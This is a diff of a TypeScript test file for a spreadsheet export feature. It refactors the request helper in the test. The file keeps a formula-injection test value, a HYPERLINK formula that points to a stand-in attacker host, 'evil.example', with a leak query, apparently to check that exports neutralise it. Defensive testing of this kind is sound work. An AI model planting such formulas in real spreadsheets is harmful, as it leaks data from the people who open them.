@@ -1,7 +1,7 @@
 import ExcelJS from 'exceljs';
 import { sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createTestUnit, createTestUser, openTestApp, signIn, TEST_ORIGIN } from '../../../test/helpers.js';
+import { createTestUnit, createTestUser, openTestApp, requestAs, signIn } from '../../../test/helpers.js';
 import { EXPORT_PAGE, exportPages, MAX_EXPORT_ROWS, XLSX_MEDIA_TYPE } from './workbook.js';
 
 const clock = { now: () => new Date('2024-08-01T02:00:00Z') };
@@ -13,10 +13,7 @@ const meeting: Record<'readiness' | 'earlier' | 'future' | 'ntb', number> = { re
 const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak","klik")';
 
 function call(who: keyof typeof session | null, method: 'GET' | 'POST' | 'PATCH', url: string, payload?: unknown) {
-  return ctx.app.inject({
-    method, url: `/api/v1${url}`, payload: payload as never, headers: { origin: TEST_ORIGIN },
-    ...(who ? { cookies: { sinergi_session: session[who] } } : {}),
-  });
+  return requestAs(ctx.app, who ? session[who] : undefined, method, url, payload);
 }
 
 async function created(who: keyof typeof session, url: string, payload: unknown): Promise<{ id: number }> {
